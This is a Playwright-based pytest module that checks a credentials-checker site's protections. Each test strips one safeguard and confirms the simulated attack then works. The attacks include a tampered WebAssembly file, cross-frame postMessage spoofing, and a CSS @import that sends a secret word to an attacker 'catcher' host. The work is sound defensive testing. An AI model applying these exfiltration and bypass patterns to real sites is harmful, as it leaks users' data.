"""What protects beside the policies: each is seen to hold, and without it the attack succeeds."""

from __future__ import annotations

import pytest
from acting import PATIENCE, open_checker, paste, verdict
from attacking import FRAME, OPEN_FRAME, Attack, soon
from playwright.sync_api import expect
from protections import Protection, without
from serving import Served
from values import Credentials

in_both_ways = pytest.mark.parametrize("protected", [True, False], ids=["with it", "without it"])
COOKIE = "seen"
# A worker's script that says who it is, as soon as somebody gives it a line.
NAMED = 'addEventListener("message", ({ ports: [line] }) => line.postMessage("NAME"));'
# Gives a frame one script, then another, and returns what the worker says that was made last.
GIVE_BOTH = """async ([one, other]) => {
  const give = (script) => new Promise((done) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => done(data);
    frames.reading.postMessage(script, "*", [port2]);
  });
  await give(one);
  return give(other);
}"""
ADD_FRAME = """async (address) => {
  const frame = Object.assign(document.createElement("iframe"), { src: address, name: "beside" });
  await new Promise((done) => { frame.onload = done; document.body.append(frame); });
}"""
SAY = """(script) => top.frames.reading.postMessage(script, "*", [new MessageChannel().port1])"""
# Messages come in the order in which they were sent.
LISTEN_TO_THE_LAST = """() => ({
  heard: new Promise((done) => addEventListener("message", ({ data }) => data === "last" && done())),
})"""
KEPT = """async () => JSON.stringify(await Promise.all((await caches.keys()).map(async (name) =>
  [name, (await (await caches.open(name)).keys()).map(({ url }) => url)])))"""


def changed(served: Served, end: str, old: str, new: str) -> None:
    """Take a protection out of a file of the site; it must be there."""

    def change(text: str) -> str:
        assert old in text, f"{old} is not in {end} any more"
        return text.replace(old, new)

    served.changes[end] = change


@in_both_ways
def test_another_runtime_does_not_run(attack: Attack, credentials: Credentials, protected: bool) -> None:
    """Python's code as somebody changed it is refused, and Python starts from the files that are whole."""
    # A section that says nothing: WebAssembly is valid with it.
    attack.served.changes[".wasm"] = lambda code: f"{code}\0\5\4evil"
    if not protected:
        changed(attack.served, "/files.js", "if (sha256 && crypto.subtle) {", "if (false) {")
    page = attack.context.new_page()
    open_checker(page)
    if protected:
        # Its WebAssembly is changed as well, so that nothing can start.
        page.locator("#paste").fill(credentials.text())
        expect(page.locator("credentials-checker")).to_have_attribute("state", "failed", timeout=PATIENCE)
    else:
        paste(page, credentials.text())
        assert verdict(page) == "complete"


@in_both_ways
def test_no_cookie_goes_along_with_what_the_checker_asks_for(
    attack: Attack, credentials: Credentials, protected: bool
) -> None:
    if not protected:
        changed(attack.served, "/files.js", 'credentials: "omit", ', "")
    attack.context.add_cookies([{"name": COOKIE, "value": attack.word, "url": attack.served.address}])
    page = attack.context.new_page()
    open_checker(page)
    paste(page, credentials.text())
    heard = [said for said in attack.served.heard if "/runtime/" in said.partition("\n")[0]]
    assert heard
    assert [attack.word in said for said in heard] == [not protected] * len(heard)


@in_both_ways
@pytest.mark.parametrize("who", ["another host", "another frame"])
def test_the_frame_takes_a_script_from_its_own_page_alone(attack: Attack, who: str, protected: bool) -> None:
    if not protected:
        gate = "source !== parent || origin !== location.origin"
        passed = {"another host": "source !== parent", "another frame": "origin !== location.origin"}
        attack.served.changes[FRAME] = without(Protection("frame", f"from {who}", gate, passed[who]))
    page = attack.context.new_page()
    attack.catcher.pages["/framing.htm"] = "<!doctype html>"
    page.goto(f"{attack.catcher.address}/framing.htm" if who == "another host" else "/safety/")
    page.evaluate(OPEN_FRAME, attack.served.address + FRAME)
    page.evaluate(ADD_FRAME, attack.served.address + "/safety/")
    frame, beside = page.frame("reading"), page.frame("beside")
    assert frame
    assert beside
    last = frame.evaluate_handle(LISTEN_TO_THE_LAST)
    for said in ("script", "last"):
        (page if who == "another host" else beside).evaluate(SAY, said)
    last.evaluate("({ heard }) => heard")
    assert frame.evaluate("worker === undefined") == protected


@in_both_ways
def test_the_frame_keeps_the_first_script(attack: Attack, protected: bool) -> None:
    if not protected:
        attack.served.changes[FRAME] = without(
            Protection("frame", "the first script", "script ??= data", "script = data")
        )
    page = attack.open()
    page.evaluate(OPEN_FRAME, FRAME)
    said = page.evaluate(GIVE_BOTH, [NAMED.replace("NAME", name) for name in ("first", "second")])
    assert said == ("first" if protected else "second")


@in_both_ways
def test_only_the_frame_can_say_that_its_worker_died(
    attack: Attack, credentials: Credentials, protected: bool
) -> None:
    if not protected:
        changed(attack.served, "/runtime.js", "if (source === element.contentWindow) failed();", "failed();")
    page = attack.context.new_page()
    open_checker(page)
    paste(page, credentials.text())
    started = []
    # Not the method itself: Playwright marks what it is given, which a built-in does not allow.
    page.on("worker", lambda worker: started.append(worker))  # noqa: PLW0108
    page.evaluate("postMessage('worker-failed', location.origin)")
    if not protected:
        soon(lambda: page.evaluate("1") and started)
    paste(page, credentials.text(without="client_id"))
    assert bool(started) != protected


@in_both_ways
@pytest.mark.parametrize(("attribute", "asked", "wanted"), [
    ('spellcheck="false"', "spellcheck", False),
    ('translate="no"', "translate", False),
    ('autocomplete="off"', "autocomplete", "off"),
    ('autocapitalize="off"', "autocapitalize", "none"),
    ('autocorrect="off"', "autocorrect", False),
])  # fmt: skip
def test_the_browser_itself_leaves_the_box_alone(
    attack: Attack, attribute: str, asked: str, wanted: object, protected: bool
) -> None:
    """Its spelling checker, for one, may send what is written to its maker."""
    if not protected:
        changed(attack.served, "/checker/", f" {attribute}", "")
    page = attack.context.new_page()
    open_checker(page)
    assert (page.evaluate(f"document.querySelector('#paste').{asked}") == wanted) == protected


@in_both_ways
def test_a_stylesheet_of_its_own_imports_none_of_another(attack: Attack, protected: bool) -> None:
    rule = f'@import url("{attack.catcher.address}/x.css?way=imported&word={attack.word}");'
    attack.served.changes[".css"] = lambda css: rule + css
    if not protected:
        changed(attack.served, "/safety/", "style-src 'self'", "style-src *")
    attack.open()
    attack.fence()
    wanted = set() if protected else {"elsewhere imported"}
    attack.wait_for(wanted)
    assert attack.arrived() == wanted


class TestWithItsServiceWorker:
    @pytest.fixture
    def options(self) -> dict[str, object]:
        return {}

    @in_both_ways
    def test_it_passes_on_nothing_that_it_is_told(self, attack: Attack, protected: bool) -> None:
        if not protected:
            known = "data.keep in RELEASE.languages) await keep(RELEASE.languages[data.keep])"
            changed(attack.served, "/service-worker.js", known, 'data.keep) await keep({ [data.keep]: "" })')
        page = attack.open()
        page.evaluate("navigator.serviceWorker.ready.then(() => true)")
        assert set(attack.from_page(page, ["service worker"]).values()) == {"tried"}
        wanted = set() if protected else {"own service worker", "elsewhere service worker"}
        attack.fence()
        attack.wait_for(wanted)
        assert attack.arrived() == wanted
        assert attack.word not in page.evaluate(KEPT)

    def test_a_frame_may_tell_it_too_and_a_reading_worker_may_not(self, attack: Attack) -> None:
        page = attack.open()
        page.evaluate("navigator.serviceWorker.ready.then(() => true)")
        assert set(attack.from_frame(page, ["service worker"]).values()) == {"tried"}
        attack.fence()
        assert attack.arrived() == set()
        page.reload()
        assert set(attack.from_worker(page, ["service worker"]).values()) == {"absent"}
